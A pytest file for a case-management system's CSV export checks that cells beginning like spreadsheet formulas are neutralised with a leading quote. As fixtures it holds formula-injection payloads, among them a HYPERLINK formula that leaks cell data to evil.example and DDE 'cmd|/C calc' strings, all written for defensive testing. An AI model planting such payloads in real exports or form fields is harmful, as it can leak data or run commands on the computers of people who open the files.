"""Every CSV export neutralises cells a spreadsheet would run as formulas (engine.csv_export)."""

from __future__ import annotations

import csv
import io
import re

import pytest
import supervision_world as world

from engine import statistics, supervision
from engine.csv_export import FORMULA_STARTS, cell
from engine.statistics import Figures
from engine.supervision import CaseFilter
from webui import create_app

HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_beginning_like_a_formula_is_written_as_text(start):
    assert cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["张三", "2026-09-18 09:00", "a=b", "", "'=quoted already"])
def test_other_text_and_numbers_are_written_as_they_are(value):
    assert cell(value) == value
    assert cell(-3) == -3 and cell(-2.5) == -2.5 and cell(None) is None


def test_the_supervision_case_list_export_neutralises_an_applicant_named_like_a_formula(engine):
    world.build(engine)
    case = world.start(engine, "town-a", applicant=HOSTILE)
    scope = supervision.scope_of(engine, world.user(engine, "sup.county"))
    header, *rows = _rows("".join(supervision.export_csv(engine, scope, CaseFilter())))
    [row] = [r for r in rows if r[0] == case.receipt_no]
    assert row[header.index("申请人")] == "'" + HOSTILE


def test_the_statistics_export_neutralises_group_names_like_formulas():
    rows = [Figures(key="@SUM(A1:A9)", label="+cmd|' /C calc'!A0", received=3), Figures(key="town-a", label="甲镇")]
    header, *body = _rows(statistics.to_csv(rows))
    assert body[0][:3] == ["'@SUM(A1:A9)", "'+cmd|' /C calc'!A0", "3"]
    assert body[1][:2] == ["town-a", "甲镇"]


def _client(app, username):
    client = app.test_client()
    page = client.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    client.post("/login", data={"username": username, "password": world.PASSWORD, "csrf_token": token})
    return client


def test_both_csv_downloads_of_the_console_neutralise_formulas(engine, clock, tmp_path):
    world.build(engine)
    engine.identity.add_user("clerk.evil", world.PASSWORD, "town-a", ["clerk"], display_name="-2+3+cmd|'/C calc'!A0")
    case = world.start(engine, "town-a", applicant=HOSTILE, officer="clerk.evil")
    world.approve_all(engine, clock, case.id, "clerk.evil")
    app = create_app(engine, {"SECRET_KEY": "test-secret", "SESSION_COOKIE_SECURE": False,
                              "INSTANCE_DIR": str(tmp_path)})  # fmt: skip
    client = _client(app, "sup.county")
    cases = _rows(client.get("/supervision/cases.csv").get_data(as_text=True))
    assert "'" + HOSTILE in [c for row in cases for c in row]
    assert HOSTILE not in [c for row in cases for c in row]
    figures = client.get("/supervision/statistics?by=officer&from=2026-09-01&to=2026-09-30&format=csv")
    names = [row[1] for row in _rows(figures.get_data(as_text=True))]
    assert "'-2+3+cmd|'/C calc'!A0" in names
